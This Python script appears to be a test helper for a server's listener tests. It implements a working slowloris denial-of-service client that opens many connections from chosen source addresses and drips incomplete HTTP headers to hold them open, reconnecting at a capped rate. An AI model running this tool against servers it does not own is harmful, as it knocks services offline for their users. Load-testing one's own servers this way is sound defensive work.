#!/usr/bin/python3
"""Slow HTTP clients for t_listeners.sh: N connections to HOST:PORT spread over source
addresses, each sending a request head one header line every INTERVAL seconds and never
finishing it; a connection the server closes is opened again (at most RECONNECT per second in
all, as a patient attacker would). Runs for DURATION seconds, then closes everything and prints
one summary line: opened, closed_by_server, peak_open.

usage: slowloris.py HOST PORT DURATION INTERVAL RECONNECT SRC:COUNT [SRC:COUNT...]
"""
import errno
import resource
import selectors
import socket
import sys
import time


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    duration, interval, reconnect = float(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    slots = []  # one source address per connection we keep trying to hold
    for spec in sys.argv[6:]:
        src, count = spec.split(":")
        slots += [src] * int(count)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = len(slots) + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))

    sel = selectors.DefaultSelector()
    conns = [None] * len(slots)  # (socket, lines sent) per slot
    opened = closed = peak = 0
    end = time.monotonic() + duration
    budget = 0.0  # reconnects allowed now (token bucket)
    last = time.monotonic()
    next_line = time.monotonic()

    def open_slot(i):
        nonlocal opened
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((slots[i], 0))
            s.connect_ex((host, port))
        except OSError:
            s.close()
            return False
        conns[i] = (s, 0)
        sel.register(s, selectors.EVENT_READ, i)
        opened += 1
        return True

    def drop(i):
        s = conns[i][0]
        sel.unregister(s)
        s.close()
        conns[i] = None

    for i in range(len(slots)):
        open_slot(i)
    while True:
        now = time.monotonic()
        if now >= end:
            break
        budget = min(reconnect, budget + (now - last) * reconnect)
        last = now
        # the server closing (or answering) a connection: read it, close our end
        for key, _ in sel.select(timeout=0.05):
            i = key.data
            try:
                data = conns[i][0].recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                closed += 1
                drop(i)
        if now >= next_line:
            next_line = now + interval
            for i, c in enumerate(conns):
                if c is None:
                    continue
                s, n = c
                line = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" if n == 0 else b"X-Slow-%d: %d\r\n" % (n, i)
                try:
                    s.send(line)
                    conns[i] = (s, n + 1)
                except (BlockingIOError, InterruptedError):
                    pass  # still connecting: next time
                except OSError:
                    closed += 1
                    drop(i)
        for i in range(len(slots)):
            if conns[i] is None and budget >= 1:
                if open_slot(i):
                    budget -= 1
        peak = max(peak, sum(1 for c in conns if c is not None))
    for i in range(len(slots)):
        if conns[i] is not None:
            drop(i)
    print("opened %d closed_by_server %d peak_open %d" % (opened, closed, peak), flush=True)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(1)
    except OSError as e:
        if e.errno == errno.EMFILE:
            print("slowloris: out of file descriptors", file=sys.stderr)
        raise
